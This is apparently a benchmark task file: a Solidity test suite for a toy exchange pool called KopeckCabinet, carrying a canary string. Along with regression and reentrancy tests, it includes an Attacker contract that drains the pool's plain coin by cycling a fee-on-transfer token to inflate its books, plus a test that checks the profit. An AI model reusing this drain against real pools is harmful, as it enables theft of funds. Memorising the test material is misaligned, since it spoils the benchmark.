// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./KopeckCabinet.sol";

// assay-canary-5c3f00d5-4935-4714-a656-1322062180b8

interface Vm {
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// A coin that comes back to the cabinet while it moves, and insists on being told off.
contract Boomerang is ICoin {
    address public cabinet;
    bytes public again;

    function plan(address cabinet_, bytes calldata again_) external {
        (cabinet, again) = (cabinet_, again_);
    }

    function balanceOf(address) external view returns (uint256) {
        return gasleft() == 0 ? 0 : total;
    }

    uint256 internal total;

    function transfer(address, uint256) external returns (bool) {
        return _back();
    }

    function transferFrom(address, address, uint256 amount) external returns (bool) {
        total += amount;
        return _back();
    }

    function _back() private returns (bool) {
        if (again.length == 0) return true;
        (bool ok, bytes memory why) = cabinet.call(again);
        require(!ok && bytes4(why) == KopeckCabinet.Handling.selector, "let through");
        return true;
    }
}

contract Coin is ICoin {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    uint256 internal immutable levyPercent;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    constructor(uint256 levyPercent_) {
        levyPercent = levyPercent_;
    }

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        _move(from, to, amount);
        return true;
    }

    /// The levy is rounded up and melted.
    function _move(address from, address to, uint256 amount) private {
        balanceOf[from] -= amount;
        balanceOf[to] += amount - (amount * levyPercent + 99) / 100;
    }
}

/// Moves the levied coin to and fro until the books say much more than there is, takes the rest, and has the drawer counted.
contract Attacker {
    KopeckCabinet internal cabinet;
    Coin internal levied;
    Coin internal plain;

    constructor(KopeckCabinet cabinet_, Coin levied_, Coin plain_) {
        (cabinet, levied, plain) = (cabinet_, levied_, plain_);
        levied_.approve(address(cabinet_), type(uint256).max);
        plain_.approve(address(cabinet_), type(uint256).max);
    }

    function run() external {
        for (uint256 i = 0; i < 8; ++i) {
            uint256 there = levied.balanceOf(address(cabinet));
            uint256 want = cabinet.held(0) * 88 / 100;
            bool last = there <= want;
            if (last) want = there - 1;
            uint256 net = cabinet.held(1) * want / (cabinet.held(0) - want);
            cabinet.exchange(1, 0, net * 10_000 / 9_970, 0);
            if (last) break;
            cabinet.exchange(0, 1, levied.balanceOf(address(this)), 0);
        }
        for (uint256 i = 0; i < 14; ++i) {
            cabinet.tally(0);
            cabinet.exchange(0, 1, cabinet.held(0), 0);
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    Coin internal levied;
    Coin internal plain;
    Coin internal third;
    KopeckCabinet internal cabinet;
    Attacker internal collector;

    function setUp() public {
        levied = new Coin(5);
        plain = new Coin(0);
        third = new Coin(0);
        ICoin[] memory coins = new ICoin[](3);
        (coins[0], coins[1], coins[2]) = (levied, plain, third);
        cabinet = new KopeckCabinet(coins, 30);
        levied.mint(address(this), 300_000e18);
        plain.mint(address(this), 300_000e18);
        third.mint(address(this), 300_000e18);
        levied.approve(address(cabinet), type(uint256).max);
        plain.approve(address(cabinet), type(uint256).max);
        third.approve(address(cabinet), type(uint256).max);
        cabinet.open(_three(200_000e18, 100_000e18, 50_000e18));

        collector = new Attacker(cabinet, levied, plain);
        plain.mint(address(collector), 1_000_000e18);
    }

    function _three(uint256 a, uint256 b, uint256 c) private pure returns (uint256[] memory list) {
        list = new uint256[](3);
        (list[0], list[1], list[2]) = (a, b, c);
    }

    function test_Regular() public {
        require(cabinet.held(0) == 190_000e18 && cabinet.sharesOf(address(this)) == 1_000e18, "open");
        uint256 shares = cabinet.join(_three(20_000e18, 10_000e18, 5_000e18), 99e18);
        require(shares == 100e18 && cabinet.held(1) == 110_000e18, "joined by a tenth");

        uint256 expected = cabinet.outFor(1, 2, 1_000e18);
        uint256 had = third.balanceOf(address(this));
        require(cabinet.exchange(1, 2, 1_000e18, expected) == expected, "exchanged");
        require(third.balanceOf(address(this)) == had + expected, "received");
        require(expected > 490e18 && expected < 500e18, "near the proportion");
        require(!_try(abi.encodeCall(cabinet.exchange, (1, 2, 1_000e18, 500e18))), "least");
        require(!_try(abi.encodeCall(cabinet.exchange, (1, 1, 1_000e18, 0))), "one drawer");
        require(cabinet.exchange(2, 0, 100e18, 0) > 370e18, "the levied coin goes out by the books");

        plain.transfer(address(cabinet), 500e18);
        cabinet.tally(1);
        require(cabinet.held(1) == 111_500e18, "dropped in");
        cabinet.moveShares(address(0xE), 100e18);
        require(!_try(abi.encodeCall(cabinet.leave, (1_001e18))), "more than there are");
        require(cabinet.exchange(0, 1, 1_000e18, 450e18) < 550e18, "a levied coin goes in");
        had = plain.balanceOf(address(this));
        expected = cabinet.held(1) * 500 / 1_100;
        cabinet.leave(500e18);
        require(plain.balanceOf(address(this)) - had == expected, "five elevenths");
        require(!_try(abi.encodeCall(cabinet.open, (_three(1, 1, 1)))), "open already");
        cabinet.setFee(10);
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok,) = address(cabinet).call(data);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Cabinets have two to eight drawers and a small fee, and a maker.
    function test_RefusesCabinets() public {
        require(!_build(1, 30) && !_build(9, 30) && !_build(2, 101) && _build(2, 100), "built");
        refuses(address(collector), KopeckCabinet.MakerOnly.selector);
        cabinet.setFee(1);
        vm.expectRevert(KopeckCabinet.BadCabinet.selector);
        cabinet.setFee(101);
        vm.expectRevert(KopeckCabinet.OpenAlready.selector);
        cabinet.open(_three(1e18, 1e18, 1e18));
        KopeckCabinet fresh = _fresh(plain);
        refuses(address(collector), KopeckCabinet.MakerOnly.selector);
        fresh.open(_two(1, 1));
        vm.expectRevert(abi.encodeWithSelector(KopeckCabinet.LengthIs.selector, 2));
        fresh.open(_three(1, 1, 1));
        vm.expectRevert(KopeckCabinet.BadCabinet.selector);
        fresh.open(_two(0, 1));
        vm.expectRevert(abi.encodeWithSelector(KopeckCabinet.LengthIs.selector, 3));
        cabinet.join(_two(0, 0), 0);
    }

    function _build(uint256 drawers, uint256 fee) private returns (bool) {
        try new KopeckCabinet(new ICoin[](drawers), fee) {
            return true;
        } catch (bytes memory why) {
            require(bytes4(why) == KopeckCabinet.BadCabinet.selector, "other reason");
            return false;
        }
    }

    function _two(uint256 a, uint256 b) private pure returns (uint256[] memory list) {
        list = new uint256[](2);
        (list[0], list[1]) = (a, b);
    }

    function _fresh(ICoin first) private returns (KopeckCabinet fresh) {
        ICoin[] memory coins = new ICoin[](2);
        (coins[0], coins[1]) = (first, third);
        fresh = new KopeckCabinet(coins, 30);
        plain.approve(address(fresh), type(uint256).max);
        third.approve(address(fresh), type(uint256).max);
    }

    /// Shares and exchanges that come to nothing, or to less or more than allowed.
    function test_RefusesAmounts() public {
        vm.expectRevert(abi.encodeWithSelector(KopeckCabinet.BelowLeast.selector, 0));
        cabinet.join(_three(0, 1e18, 1e18), 0);
        vm.expectRevert(abi.encodeWithSelector(KopeckCabinet.BelowLeast.selector, 100e18));
        cabinet.join(_three(20_000e18, 10_000e18, 5_000e18), 101e18);
        vm.expectRevert(KopeckCabinet.NothingOut.selector);
        cabinet.exchange(1, 2, 0, 0);
        plain.mint(address(this), 2_000_000e18);
        (bool ok, bytes memory why) = address(cabinet).call(abi.encodeCall(cabinet.exchange, (1, 2, 2_000_000e18, 0)));
        require(!ok && bytes4(why) == KopeckCabinet.NineTenths.selector, "nine tenths");
        third.sleep(true);
        vm.expectRevert(abi.encodeWithSelector(KopeckCabinet.CoinFailed.selector, third));
        cabinet.exchange(1, 2, 1_000e18, 0);
        vm.expectRevert(abi.encodeWithSelector(KopeckCabinet.CoinFailed.selector, third));
        cabinet.exchange(2, 1, 1_000e18, 0);
    }

    /// One hand in the cabinet at a time.
    function test_RefusesASecondHand() public {
        Boomerang coin = new Boomerang();
        KopeckCabinet fresh = _fresh(coin);
        bytes[5] memory calls = [
            abi.encodeCall(fresh.open, (_two(1, 1))),
            abi.encodeCall(fresh.join, (_two(1, 1), 0)),
            abi.encodeCall(fresh.leave, (0)),
            abi.encodeCall(fresh.exchange, (0, 1, 1, 0)),
            abi.encodeCall(fresh.tally, (0))
        ];
        fresh.open(_two(1e18, 1e18));
        for (uint256 i = 0; i < 5; ++i) {
            coin.plan(address(fresh), calls[i]);
            fresh.exchange(0, 1, 1e15, 0);
        }
    }

    function exploit() public {
        collector.run();
    }

    function test_Exploit() public {
        uint256 before = plain.balanceOf(address(collector));
        exploit();
        require(plain.balanceOf(address(collector)) >= before + 99_000e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(cabinet);
    }

    function attacker() public view returns (address) {
        return address(collector);
    }

    function asset() public view returns (address) {
        return address(plain);
    }
}
